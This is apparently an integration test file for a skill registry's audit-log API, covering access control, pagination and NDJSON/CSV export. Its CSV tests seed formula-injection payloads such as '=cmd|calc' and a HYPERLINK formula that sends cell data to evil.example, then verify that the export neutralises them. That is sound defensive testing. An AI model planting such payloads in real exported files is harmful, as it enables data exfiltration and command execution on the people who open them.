import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { account, call, publish } from "../harness/api.ts";
import { narrowToken } from "../harness/narrow-token.ts";
import { browser, codeOf, newMail, PASSWORD, signedUp, withSecondFactor } from "../harness/people.ts";
import { startTestRegistry, type TestRegistry } from "../harness/registry.ts";
import { rowsOf, runSql } from "../harness/rows.ts";
import { sampleZip } from "../harness/samples.ts";

interface Entry {
  id: number;
  actor: string;
  action: string;
  target: string;
  detail: Record<string, unknown>;
  request_id: string | null;
}

let registry: TestRegistry;
let ada: string;
let bob: string;
const api = (path: string) => `${registry.url}/api/v1${path}`;
const entries = async (path: string, token: string): Promise<Entry[]> => {
  const answer = await call(api(path), { token });
  expect(answer.status, JSON.stringify(answer.body)).toBe(200);
  return answer.body.items;
};
const deeds = (items: Entry[]) => items.map(({ actor, action, target }) => `${actor} ${action} ${target}`);

beforeAll(async () => {
  registry = await startTestRegistry({
    environment: { SIGN_UP: "open", RATE_LIMIT_MAIL: "1000", RATE_LIMIT_READS: "10000", RATE_LIMIT_SIGN_IN: "1000" },
  });
  ada = await account(registry.url, registry.adminToken, "ada");
  bob = await account(registry.url, registry.adminToken, "bob");
  for (const name of ["tides", "tides-two"])
    expect((await publish(registry.url, ada, sampleZip({ name }))).status).toBe(201);
  expect((await publish(registry.url, ada, sampleZip({ name: "hush" }), "?visibility=private")).status).toBe(201);
  await registry.settle();
});
afterAll(async () => {
  await registry.settle();
  await registry.close();
});

describe("the log of a skill", () => {
  test("says who did what to it and its versions, newest first, to its publisher's managers and to admins", async () => {
    const yank = { token: ada, json: { reason: "a mistake" } };
    expect((await call(api("/skills/tides/1.0.0/yank"), yank)).status).toBe(200);
    const items = await entries("/skills/tides/audit", ada);
    expect(deeds(items)).toEqual([
      "ada version.yank skill:tides@1.0.0",
      "registry version.inspected skill:tides@1.0.0",
      "ada version.publish skill:tides@1.0.0",
    ]);
    expect(items[0]).toMatchObject({ detail: { reason: "a mistake" }, request_id: expect.any(String) });
    expect(await entries("/skills/tides/audit", registry.adminToken)).toEqual(items);
    expect(deeds(await entries("/skills/tides/audit?action=version.*&actor=ada&limit=1", ada))).toEqual([
      "ada version.yank skill:tides@1.0.0",
    ]);
  });

  test("comes in pages, and takes no other list's cursor", async () => {
    const all = await entries("/skills/tides-two/audit", ada);
    expect(all).toHaveLength(2);
    const first = (await call(api("/skills/tides-two/audit?limit=1"), { token: ada })).body;
    const second = (await call(api(`/skills/tides-two/audit?limit=1&cursor=${first.next_cursor}`), { token: ada }))
      .body;
    expect([...first.items, ...second.items]).toEqual(all);
    expect(second.next_cursor).toBeNull();
    expect((await call(api("/skills/tides/audit?cursor=bm9uZQ"), { token: ada })).status).toBe(400);
  });

  test("T3 is nobody else's: others are refused, and of a private skill they learn not that it is there", async () => {
    expect((await call(api("/skills/tides/audit"))).status).toBe(401);
    expect((await call(api("/skills/tides/audit"), { token: bob })).status).toBe(403);
    const hidden = await call(api("/skills/hush/audit"), { token: bob });
    const unknown = await call(api("/skills/hash/audit"), { token: bob });
    expect([hidden.status, unknown.status]).toEqual([404, 404]);
    expect(hidden.body.detail.replace("hush", "hash")).toBe(unknown.body.detail);
    const narrow = await narrowToken(registry, { handle: "ada", scopes: ["read"], namePatterns: ["tides-*"] });
    expect((await call(api("/skills/tides/audit"), { token: narrow })).status).toBe(403);
    expect((await call(api("/skills/tides-two/audit"), { token: narrow })).status).toBe(200);
    const member = await account(registry.url, registry.adminToken, "mo");
    await runSql(
      registry,
      `BEGIN; INSERT INTO audit_log (actor, action, target) VALUES ('test', 'member.join', 'publisher:ada');
       INSERT INTO memberships (account_id, publisher_id, role) SELECT a.id, p.id, 'publisher' FROM accounts a, publishers p
         WHERE a.handle = 'mo' AND p.handle = 'ada'; COMMIT;`,
    );
    expect((await call(api("/skills/tides/audit"), { token: member })).status).toBe(403);
  });

  test("keeps who reported it, and what others arranged for the name before, from its publisher", async () => {
    const trusted = { issuer: "github", repository: "bob/tool", workflow: "release.yml" };
    const arranged = await call(api("/skills/reported/trusted-publishers"), { token: bob, json: trusted });
    expect(arranged.status).toBe(201);
    expect((await publish(registry.url, ada, sampleZip({ name: "reported" }))).status).toBe(201);
    await registry.settle();
    const own = { issuer: "github", repository: "ada/tool", workflow: "release.yml" };
    expect((await call(api("/skills/reported/trusted-publishers"), { token: ada, json: own })).status).toBe(201);
    const report = { kind: "spam", text: "it is an advertisement" };
    expect((await call(api("/skills/reported/reports"), { token: bob, json: report })).status).toBe(201);
    const seen = await entries("/skills/reported/audit", ada);
    expect(deeds(seen).filter((deed) => deed.startsWith("bob"))).toEqual([]);
    expect(deeds(seen)[0]).toBe("ada trusted_publisher.add skill:reported");
    expect(deeds(await entries("/account/audit", bob)).slice(0, 2)).toEqual([
      "bob report.open skill:reported",
      "bob trusted_publisher.add skill:reported",
    ]);
  });
});

describe("the log of an account", () => {
  test("says its sign-ins, tokens, second factor and memberships, and what was done to it", async () => {
    const { email, first } = await signedUp(registry, "clara");
    const second = browser(registry.url);
    expect((await second.post("/auth/sign-in", { email, password: PASSWORD })).status).toBe(200);
    const { sessions } = (await first.get("/auth/account")).body;
    const other = sessions.find((session: { is_current: boolean }) => !session.is_current);
    expect((await first.post("/auth/end-session", { id: other.id })).status).toBe(200);
    const { uri, recoveryCodes } = await withSecondFactor(first);
    const third = browser(registry.url);
    await third.post("/auth/sign-in", { email, password: PASSWORD });
    expect((await third.post("/auth/sign-in-code", { code: recoveryCodes[0] })).status).toBe(200);
    await third.post("/auth/sign-out", {});
    const made = await first.post("/api/v1/publishers", { handle: "claras" });
    expect(made.status, JSON.stringify(made.body)).toBe(201);
    const invited = await first.post("/api/v1/publishers/claras/invitations", { account: "bob", role: "publisher" });
    expect(invited.status, JSON.stringify(invited.body)).toBe(201);
    expect((await first.post("/auth/second-factor/recovery-codes", { password: PASSWORD })).status).toBe(200);
    expect((await first.post("/auth/confirm", { code: await codeOf(uri) })).status).toBe(200);
    expect((await first.post("/auth/second-factor/remove", { password: PASSWORD })).status).toBe(200);
    const reason = { token: registry.adminToken, json: { reason: "asked for" } };
    expect((await call(api("/admin/accounts/clara/suspend"), reason)).status).toBe(200);
    expect((await call(api("/admin/accounts/clara/reinstate"), reason)).status).toBe(200);
    // Its sessions have ended.
    expect((await first.post("/auth/sign-in", { email, password: PASSWORD })).status).toBe(200);
    const own = await first.get("/api/v1/account/audit?limit=100");
    expect(own.status).toBe(200);
    expect(own.headers.get("cache-control")).toContain("no-store");
    expect(deeds(own.body.items).toReversed()).toEqual([
      "clara account.sign_up account:clara",
      "clara account.sign_in account:clara",
      "clara account.sign_in account:clara",
      "clara account.session_ended account:clara",
      "clara account.second_factor_added account:clara",
      "clara account.recovery_code_used account:clara",
      "clara account.sign_in account:clara",
      "clara account.sign_out account:clara",
      "clara publisher.create publisher:claras",
      "clara member.invite publisher:claras",
      "clara account.recovery_codes_renewed account:clara",
      "clara account.second_factor_removed account:clara",
      "admin account.suspend account:clara",
      "admin account.reinstate account:clara",
      "clara account.sign_in account:clara",
    ]);
    const items: Entry[] = own.body.items;
    expect(items.filter(({ action }) => action === "account.sign_in").map(({ detail }) => detail["by"])).toEqual([
      "password",
      "recovery code",
      "password",
      "password",
    ]);
    // What was shown, never from where: addresses stand with the session, and go with it.
    expect(JSON.stringify(items)).not.toMatch(/127\.0\.0\.1|::1/);
    expect(items.every(({ request_id: id }) => id !== null)).toBe(true);
    expect(deeds(await entries("/account/audit?limit=1", bob))).toEqual(["clara member.invite publisher:claras"]);
  });

  test("T3 is one's own, takes a token for more than some names, and is silent of skills that one may not see any more", async () => {
    expect((await call(api("/account/audit"))).status).toBe(401);
    const narrow = await narrowToken(registry, { handle: "ada", scopes: ["read"], namePatterns: ["tides-*"] });
    expect((await call(api("/account/audit"), { token: narrow })).status).toBe(403);
    const letter = { token: registry.adminToken, json: { email: "bob@elsewhere.example" } };
    expect((await call(api("/admin/invitations"), letter)).status).toBe(201);
    expect(JSON.stringify(await entries("/account/audit", bob))).not.toContain("elsewhere.example");
    expect(deeds(await entries("/account/audit?skill=hush", ada))).toEqual(["ada version.publish skill:hush@1.0.0"]);
    await runSql(
      registry,
      `BEGIN; INSERT INTO audit_log (actor, action, target) VALUES ('bob', 'version.sign', 'skill:hush@1.0.0'); COMMIT;`,
    );
    expect(await entries("/account/audit?skill=hush", bob)).toEqual([]);
    expect(JSON.stringify(await entries("/account/audit", bob))).not.toContain("hush");
  });
});

describe("an admin's", () => {
  const asAdmin = async (query: string) => deeds(await entries(`/admin/audit?limit=100&${query}`, registry.adminToken));

  test("finds by who, what, skill, account, publisher, request and time", async () => {
    expect(await asAdmin("skill=tides&action=version.yank")).toEqual(["ada version.yank skill:tides@1.0.0"]);
    expect(await asAdmin("target=tides@1.0.0&actor=registry")).toEqual([
      "registry version.inspected skill:tides@1.0.0",
    ]);
    expect(await asAdmin("target=account:bob")).toEqual(["admin account.create account:bob"]);
    expect((await asAdmin("account=bob")).toReversed()[0]).toBe("admin account.create account:bob");
    expect(await asAdmin("publisher=claras")).toEqual([
      "clara member.invite publisher:claras",
      "clara publisher.create publisher:claras",
    ]);
    expect((await asAdmin("publisher=ada&action=version.publish")).toSorted()).toEqual(
      ["hush", "reported", "tides-two", "tides"].map((name) => `ada version.publish skill:${name}@1.0.0`),
    );
    const [yanked] = await entries("/admin/audit?skill=tides&action=version.yank", registry.adminToken);
    expect(await asAdmin(`request_id=${yanked?.request_id}`)).toEqual(["ada version.yank skill:tides@1.0.0"]);
    const soon = encodeURIComponent(new Date(Date.now() + 60_000).toISOString());
    expect(await asAdmin(`skill=tides&since=${soon}`)).toEqual([]);
    expect(await asAdmin(`skill=tides&until=${soon}`)).toHaveLength(3);
    for (const since of ["yesterday", "0000-01-01T00:00:00Z", "2026-01-01"])
      expect((await call(api(`/admin/audit?since=${since}`), { token: registry.adminToken })).status).toBe(400);
    expect((await call(api("/admin/audit?account=bob"), { token: ada })).status).toBe(403);
  });
});

describe("as a file", () => {
  const file = (path: string, token: string) => call(api(path), { token });

  test("NDJSON has an object a line, all of them, with a name to save it under", async () => {
    await runSql(
      registry,
      `INSERT INTO audit_log (actor, action, target) SELECT 'test', 'bulk.row', 'bulk:' || n FROM generate_series(1, 1203) AS n`,
    );
    const answer = await fetch(api("/admin/audit?export=ndjson&action=bulk.row&limit=1"), {
      headers: { authorization: `Bearer ${registry.adminToken}` },
    });
    expect(answer.headers.get("content-type")).toBe("application/x-ndjson");
    expect(answer.headers.get("content-disposition")).toBe('attachment; filename="audit.ndjson"');
    expect(answer.headers.get("cache-control")).toContain("no-store");
    expect(answer.headers.get("content-length")).toBeNull();
    const lines: Entry[] = (await answer.text())
      .trimEnd()
      .split("\n")
      .map((line) => JSON.parse(line));
    expect(lines.map(({ target }) => target)).toEqual(Array.from({ length: 1203 }, (_, n) => `bulk:${1203 - n}`));
  });

  test("X11 CSV has cells that no spreadsheet calculates, quoted as RFC 4180 says", async () => {
    const reason = String.raw`=HYPERLINK("http://evil.example?"&A1,"look")`;
    await runSql(
      registry,
      `INSERT INTO audit_log (actor, action, target, detail) VALUES
        ('=cmd|calc', '+1', '-2', '{}'), ('@SUM(A1)', E'\\tx', E'\\rx', '{}'), ('a"b,c', '＝1', 'x', '{"reason": ${JSON.stringify(reason)}}'),
        ('turned' || chr(8238), 'csv.row', 'x', '{"reason": "a${"\u202E"}b"}')`,
    );
    const answer = await file("/admin/audit?export=csv&until=2999-01-01T00:00:00Z", registry.adminToken);
    expect(answer.headers.get("content-type")).toContain("text/csv");
    expect(answer.headers.get("content-disposition")).toBe('attachment; filename="audit.csv"');
    const [head, turned, wide, at, equals] = answer.body.split("\r\n").filter((line: string) => line !== "");
    expect(head).toBe("id,at,actor,action,target,request_id,detail");
    expect(turned).toContain(String.raw`a\u202eb`);
    expect(wide).toContain(`"a""b,c",'＝1,x,,"{""reason"":""=HYPERLINK(`);
    expect(at).toContain(`,'@SUM(A1),`);
    expect(equals).toContain(`,'=cmd|calc,'+1,'-2,,{}`);
    for (const line of answer.body.split("\r\n")) expect(line).not.toMatch(/,[=+\-@\t]/);
  });

  test("X11 CSV has none either where a spreadsheet takes semicolons for separators", async () => {
    await runSql(
      registry,
      `INSERT INTO audit_log (actor, action, target, detail) VALUES
        ('a;=1+1', 'semicolon.row', E'x;"=2+2\\n=3+3', '{"token": ";=1+1;=HYPERLINK(0);"}')`,
    );
    const { body } = await file("/admin/audit?export=csv&action=semicolon.row", registry.adminToken);
    for (const cell of String(body).split(/[;\r\n]/)) expect(cell).not.toMatch(/^[\s"]*[=+\-@]/);
    expect(body).toContain(String.raw`{""token"":""\u003b=1+1\u003b=HYPERLINK(0)\u003b""}`);
    const lines = await file("/admin/audit?export=ndjson&action=semicolon.row", registry.adminToken);
    expect(JSON.stringify(lines.body)).toContain(";=1+1;=HYPERLINK(0);");
  });

  test("T9 an export ends with the rights that began it", async () => {
    // Far more than what the connection between both ends holds: the server waits for who reads it.
    await runSql(
      registry,
      `INSERT INTO audit_log (actor, action, target, detail)
       SELECT 'test', 'long.row', 'long:' || n, jsonb_build_object('text', repeat(md5(n::text), 120))
       FROM generate_series(1, 12000) AS n`,
    );
    const token = await narrowToken(registry, { handle: "admin", scopes: ["read"] });
    const headers = { authorization: `Bearer ${token}`, "accept-encoding": "identity" };
    const answer = await fetch(api("/admin/audit?export=ndjson&action=long.row"), { headers });
    expect(answer.status).toBe(200);
    const reader = answer.body?.pipeThrough(new TextDecoderStream()).getReader();
    let text = (await reader?.read())?.value ?? "";
    const { tokens } = (await call(api("/tokens"), { token: registry.adminToken })).body;
    const narrow = tokens.find(({ name }: { name: string }) => name === "narrow");
    const revoked = await call(api(`/tokens/${narrow.id}`), { method: "DELETE", token: registry.adminToken });
    expect(revoked.status, JSON.stringify(revoked.body)).toBeLessThan(300);
    const toTheEnd = async () => {
      for (let part = await reader?.read(); part?.value !== undefined; part = await reader?.read()) text += part.value;
    };
    await toTheEnd().catch(() => undefined);
    expect(text.startsWith('{"id":')).toBe(true);
    expect(text.split('"long.row"').length).toBeLessThan(10_000);
  });

  test("T3 whoever may not read it gets no file", async () => {
    expect((await file("/admin/audit?export=csv", ada)).status).toBe(403);
    expect((await file("/skills/hush/audit?export=csv", bob)).status).toBe(404);
    expect((await file("/skills/hush/audit?export=csv", ada)).body).toContain("version.publish,skill:hush@1.0.0");
    expect((await file("/account/audit?export=xml", ada)).status).toBe(400);
  });
});

describe("T14 what changes how somebody signs in is there with its row, or not at all", () => {
  const refuse = (action: string) =>
    runSql(
      registry,
      `CREATE OR REPLACE FUNCTION refuse_row() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'no row'; END $$;
       CREATE TRIGGER refuse_row BEFORE INSERT ON audit_log FOR EACH ROW WHEN (NEW.action = '${action}') EXECUTE FUNCTION refuse_row();`,
    );
  const allow = () => runSql(registry, "DROP TRIGGER refuse_row ON audit_log");

  test("T14 a new password", async () => {
    const { email } = await signedUp(registry, "dora");
    await browser(registry.url).post("/auth/ask-for-reset", { email });
    const token = await newMail(registry, email, "/reset");
    const password = "another horse another staple";
    await refuse("account.password_reset");
    expect((await browser(registry.url).post("/auth/reset-password", { token, password })).status).toBe(500);
    await allow();
    expect((await browser(registry.url).post("/auth/sign-in", { email, password })).status).toBe(401);
    expect((await browser(registry.url).post("/auth/sign-in", { email, password: PASSWORD })).status).toBe(200);
  });

  test("T14 a second factor, its recovery codes, and its end", async () => {
    const { email, first } = await signedUp(registry, "emil");
    await refuse("account.second_factor_added");
    const begun = (await first.post("/auth/second-factor/begin", { password: PASSWORD })).body;
    const refused = await first.post("/auth/second-factor/end", { code: await codeOf(begun.uri, -1) });
    expect(refused.status).toBe(500);
    await allow();
    expect((await first.get("/auth/account")).body.has_second_factor).toBe(false);
    const ended = await first.post("/auth/second-factor/end", { code: await codeOf(begun.uri) });
    expect(ended.status, JSON.stringify(ended.body)).toBe(200);
    await refuse("account.second_factor_removed");
    expect((await first.post("/auth/second-factor/remove", { password: PASSWORD })).status).toBe(500);
    await allow();
    expect((await first.get("/auth/account")).body.has_second_factor).toBe(true);
    await refuse("account.recovery_code_used");
    const second = browser(registry.url);
    await second.post("/auth/sign-in", { email, password: PASSWORD });
    const code = begun.recovery_codes[0];
    expect((await second.post("/auth/sign-in-code", { code })).status).toBe(500);
    await allow();
    const again = browser(registry.url);
    await again.post("/auth/sign-in", { email, password: PASSWORD });
    expect((await again.post("/auth/sign-in-code", { code })).status).toBe(200);
    const twice = await rowsOf(
      registry,
      "SELECT 1 FROM audit_log WHERE actor = 'emil' AND action = 'account.recovery_code_used'",
    );
    expect(twice).toHaveLength(1);
  });

  test("T14 a sign-in: without its row nobody is in", async () => {
    const { email } = await signedUp(registry, "fred");
    await refuse("account.sign_in");
    const one = browser(registry.url);
    expect((await one.post("/auth/sign-in", { email, password: PASSWORD })).status).toBe(500);
    await allow();
    expect((await one.get("/api/v1/whoami")).status).toBe(401);
  });
});
